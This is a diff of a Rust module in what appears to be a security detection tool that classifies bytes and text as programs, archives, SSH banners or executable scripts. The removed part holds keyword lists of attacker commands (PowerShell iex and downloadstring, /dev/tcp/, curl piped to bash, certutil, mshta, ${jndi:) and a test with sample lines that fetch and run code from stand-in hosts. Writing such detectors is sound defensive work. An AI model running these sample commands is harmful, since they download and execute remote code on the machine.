@@ -1,37 +1,9 @@
 //! What bytes or a text are, by their first bytes or by words that only such a text has.
 
-use std::sync::OnceLock;
-
-use aho_corasick::AhoCorasick;
 use infer::{app, archive, image};
 
-/// What a text makes a computer do.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub enum ExecutableKind {
-    PowerShell,
-    Script,
-    Command,
-}
-
-impl ExecutableKind {
-    /// The name that stands before the decoded text.
-    pub fn name(self) -> &'static str {
-        match self {
-            Self::PowerShell => "PowerShell",
-            Self::Script => "script",
-            Self::Command => "command",
-        }
-    }
-
-    /// The name in a sentence.
-    pub fn with_article(self) -> &'static str {
-        match self {
-            Self::PowerShell => "PowerShell",
-            Self::Script => "a script",
-            Self::Command => "a command",
-        }
-    }
-}
+use crate::evidence::byte_class::{READABLE, class};
+use crate::evidence::words::{ExecutableKind, executable_kind};
 
 /// What decoded bytes are.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -63,6 +35,7 @@ impl Content {
             Self::Executable(kind) => kind.name(),
             Self::BytesWith(ExecutableKind::PowerShell) => "bytes with PowerShell",
             Self::BytesWith(ExecutableKind::Script) => "bytes with a script",
+            Self::BytesWith(ExecutableKind::Injection) => "bytes with an injection",
             Self::BytesWith(ExecutableKind::Command) => "bytes with a command",
             Self::BytesWithSshBanner => "bytes with SSH banner",
             Self::BytesWithText => "bytes with text",
@@ -85,6 +58,8 @@ pub fn as_text(bytes: &[u8]) -> Option<String> {
     };
     let text = match utf8 {
         Some(text) if !bytes.contains(&0) => text.to_owned(),
+        // Bytes of UTF-16 in a Western script are zero, one in two.
+        _ if memchr::memchr(0, bytes).is_none() => return None,
         _ => {
             const ORDER_MARKS: [[u8; 2]; 2] = [[0xff, 0xfe], [0xfe, 0xff]];
             let (pairs, _) = bytes.as_chunks::<2>();
@@ -107,134 +82,6 @@ pub fn as_text(bytes: &[u8]) -> Option<String> {
     (all >= min && control <= all / 20).then_some(text)
 }
 
-/// Words that occur in PowerShell and not in prose, in lower case.
-const POWERSHELL: &[&str] = &[
-    "powershell",
-    "pwsh",
-    "invoke-expression",
-    "invoke-webrequest",
-    "invoke-restmethod",
-    "invoke-command",
-    "invoke-item",
-    "new-object",
-    "frombase64string",
-    "tobase64string",
-    "downloadstring",
-    "iex(",
-    "iex (",
-    "iex $",
-    "|iex",
-    "| iex",
-    "irm http",
-    "iwr http",
-    "iwr -",
-    "$env:",
-    "$global:",
-    "-encodedcommand",
-    "start-sleep",
-    "out-string",
-    "[system.",
-    "foreach-object",
-    "-executionpolicy",
-    "-exec bypass",
-];
-const SCRIPT: &[&str] =
-    &["<script", "function(", "eval(", "wscript", "createobject(", "import os;", "import os,", "import socket", "require('", "require(\""];
-const COMMAND: &[&str] = &[
-    "cmd.exe",
-    "cmd /c",
-    "/bin/",
-    "/dev/tcp/",
-    "/etc/",
-    "curl -",
-    "curl http",
-    "curl $",
-    "wget -",
-    "wget http",
-    "wget $",
-    "chmod +",
-    "chmod 7",
-    "rundll32",
-    "regsvr32",
-    "certutil",
-    "mshta",
-    "bitsadmin",
-    "schtasks",
-    "cscript",
-    "msiexec",
-    "wmic ",
-    "whoami",
-    "ipconfig",
-    "net localgroup",
-    "nslookup -",
-    "uname -",
-    "|bash",
-    "| bash",
-    "|sh",
-    "| sh",
-    "python -c",
-    "python3 -c",
-    "perl -e",
-    "php -r",
-    "${jndi:",
-];
-
-/// The words of each kind, in the order in which the kinds are tried.
-pub const EXECUTABLE_WORDS: [(ExecutableKind, &[&str]); 3] =
-    [(ExecutableKind::PowerShell, POWERSHELL), (ExecutableKind::Script, SCRIPT), (ExecutableKind::Command, COMMAND)];
-
-/// All words, so that one pass over a text finds them.
-struct Words {
-    searcher: AhoCorasick,
-    /// The kind of each word, as an index of [`EXECUTABLE_WORDS`], and the word.
-    words: Vec<(usize, &'static str)>,
-}
-
-fn words() -> Option<&'static Words> {
-    static WORDS: OnceLock<Option<Words>> = OnceLock::new();
-    let build = || {
-        let words: Vec<_> =
-            EXECUTABLE_WORDS.iter().enumerate().flat_map(|(kind, (_, words))| words.iter().map(move |word| (kind, *word))).collect();
-        // It fails only for millions of words; a test of the words would show it.
-        let searcher = AhoCorasick::builder().ascii_case_insensitive(true).build(words.iter().map(|(_, word)| word)).ok()?;
-        Some(Words { searcher, words })
-    };
-    WORDS.get_or_init(build).as_ref()
-}
-
-/// What a text makes a computer do, or `None` if it has no such word.
-pub fn executable_kind(text: &str) -> Option<ExecutableKind> {
-    let Words { searcher, words } = words()?;
-    let mut first: Option<usize> = None;
-    for found in searcher.find_overlapping_iter(text) {
-        let Some((kind, word)) = words.get(found.pattern().as_usize()) else { continue };
-        if first.is_none_or(|first| *kind < first) && stands_alone(text, word, found.start()) {
-            first = Some(*kind);
-            if *kind == 0 {
-                break;
-            }
-        }
-    }
-    EXECUTABLE_WORDS.get(first?).map(|(kind, _)| *kind)
-}
-
-/// Whether a word stands alone: not part of `firm`, of `| show`, of a host name, or of a path in the middle of a URL.
-fn stands_alone(text: &str, word: &str, at: usize) -> bool {
-    let (before, after) = (text.get(..at).unwrap_or_default(), text.get(at.saturating_add(word.len())..).unwrap_or_default());
-    let joined_before = before.chars().next_back().is_some_and(|c| match word.chars().next() {
-        Some('/') => c.is_alphanumeric() || "./-_".contains(c),
-        Some(first) if first.is_ascii_alphanumeric() => c.is_alphanumeric() || "./-_@".contains(c),
-        _ => false,
-    });
-    let ends_as_word = word.ends_with(|c: char| c.is_ascii_alphanumeric()) && !word.ends_with("http");
-    let begins = |rest: &str| after.get(1..=rest.len()).is_some_and(|after| after.eq_ignore_ascii_case(rest));
-    let joined_after = after.chars().next().is_some_and(|c| match c {
-        '.' => !["exe", "shell", " "].into_iter().any(begins) && after.len() > 1,
-        _ => c.is_alphanumeric() || "-_@".contains(c),
-    });
-    !(joined_before || ends_as_word && joined_after)
-}
-
 /// What a text is.
 pub fn content_of_text(text: &str) -> Content {
     if text.starts_with("SSH-") {
@@ -244,7 +91,7 @@ pub fn content_of_text(text: &str) -> Content {
     } else if text.starts_with(['{', '[']) && serde_json::from_str::<serde_json::Value>(text).is_ok() {
         Content::Json
     } else {
-        executable_kind(text).map_or(Content::Text, Content::Executable)
+        executable_kind(text.as_bytes()).map_or(Content::Text, Content::Executable)
     }
 }
 
@@ -271,16 +118,27 @@ const FILES: [(&str, HasSignature); 13] = [
 /// What bytes are that are not text.
 pub fn content_of_bytes(bytes: &[u8]) -> Option<Content> {
     match bytes {
+        [b'S', b'S', b'H', b'-', ..] => Some(Content::SshBanner),
+        _ => file_kind(bytes).or_else(|| with_words(bytes)).or_else(|| readable_part(bytes).map(|_| Content::BytesWithText)),
+    }
+}
+
+/// The kind of a program, an archive or another file, by its first bytes.
+pub fn file_kind(bytes: &[u8]) -> Option<Content> {
+    // What the signatures below begin with: most bytes are none of them, and need not be compared with each.
+    if !matches!(
+        bytes.first(),
+        Some(0 | 0x1f | b'%' | b'(' | b'7' | b'G' | b'I' | b'M' | b'P' | b'R' | b'S' | b'{' | 0x7f | 0x89 | 0xd0 | 0xfd | 0xff)
+    ) {
+        return None;
+    }
+    match bytes {
         [b'M', b'Z', b'P' | 0x90, 0, ..] => Some(Content::Pe),
         [b'M', b'Z', ..] if bytes.len() >= 64 => Some(Content::Pe),
         [0x7f, b'E', b'L', b'F', ..] => Some(Content::Elf),
         [0x1f, 0x8b, 8, ..] => Some(Content::Gzip),
         [b'P', b'K', 3, 4, ..] => Some(Content::Zip),
-        [b'S', b'S', b'H', b'-', ..] => Some(Content::SshBanner),
-        _ => {
-            let file = FILES.iter().find(|(_, begins)| begins(bytes)).map(|(extension, _)| Content::File(extension));
-            file.or_else(|| with_words(bytes)).or_else(|| readable_part(bytes).map(|_| Content::BytesWithText))
-        }
+        _ => FILES.iter().find(|(_, begins)| begins(bytes)).map(|(extension, _)| Content::File(extension)),
     }
 }
 
@@ -292,12 +150,20 @@ const MAX_SEARCHED_BYTES: usize = 4 << 10;
 pub fn readable_part(bytes: &[u8]) -> Option<&str> {
     const MAX_HEADER_BYTES: usize = 12;
     let bytes = bytes.get(..MAX_SEARCHED_BYTES).unwrap_or(bytes);
-    let is_readable = |byte: &u8| matches!(byte, b' '..=b'~' | b'\t' | b'\r' | b'\n');
-    let longest = bytes.chunk_by(|one, next| is_readable(one) == is_readable(next)).filter(|part| part.iter().all(is_readable));
-    let longest = longest.max_by_key(|part| part.len())?;
-    let to_the_end = bytes.ends_with(longest) && bytes.len().saturating_sub(longest.len()) <= MAX_HEADER_BYTES;
+    let (mut run, mut longest, mut end) = (0usize, 0usize, 0usize);
+    for (at, byte) in bytes.iter().enumerate() {
+        run = if class(*byte) & READABLE != 0 { run.saturating_add(1) } else { 0 };
+        if run > longest {
+            (longest, end) = (run, at.saturating_add(1));
+        }
+    }
+    let to_the_end = end == bytes.len() && bytes.len().saturating_sub(longest) <= MAX_HEADER_BYTES;
     let min = if to_the_end { 12 } else { 16 };
-    std::str::from_utf8(longest).ok().filter(|part| part.len() >= min)
+    if longest < min {
+        return None;
+    }
+    let longest = bytes.get(end.saturating_sub(longest)..end)?;
+    std::str::from_utf8(longest).ok()
 }
 
 /// The readable characters of bytes, with spaces in place of the others.
@@ -311,40 +177,12 @@ fn with_words(bytes: &[u8]) -> Option<Content> {
     if memchr::memmem::find(bytes, b"SSH-2.0-").is_some() {
         return Some(Content::BytesWithSshBanner);
     }
-    executable_kind(&readable(bytes)).map(Content::BytesWith)
+    executable_kind(readable(bytes).as_bytes()).map(Content::BytesWith)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn words_stand_alone() {
-        for (text, expected) in [
-            ("curl -fsSL http://203.0.113.5/i.sh | bash", Some("command")),
-            ("mshta evil.example/x.mp3 # I am not a robot", Some("command")),
-            ("irm evil.example/a|iex", Some("PowerShell")),
-            ("CreateObject(\"WScript.Shell\").Run \"calc\"", Some("script")),
-            ("our firm is here | show more", None),
-            ("v=spf1 include:curly.example -all", None),
-            ("we mandate reimport osmosis", None),
-            ("root:x:0:0:root:/root:/bin/bash", Some("command")),
-            ("C:\\Windows\\System32\\cmd.exe /c dir", Some("command")),
-            ("certutil.exe -urlcache", Some("command")),
-            // Found in review: names of hosts, paths of addresses and prose were commands.
-            ("v=spf1 include:powershell.example -all", None),
-            ("v=BIMI1; l=https://example.com/bin/logo.svg; a=", None),
-            ("dnslink=/ipns/example.com/etc/x", None),
-            ("heritage=external-dns,external-dns/owner=a,external-dns/resource=service/cscript", None),
-            ("Blocked - see https://lists.example.org/etc/lookup?192.0.2.4", None),
-            ("We curl hair", None),
-            ("irm ok", None),
-            ("my require(s) docs", None),
-            ("invoke-billing=123", None),
-        ] {
-            assert_eq!(executable_kind(text).map(ExecutableKind::name), expected, "{text}");
-        }
-    }
 
     #[test]
     fn headers_of_programs_are_short() {
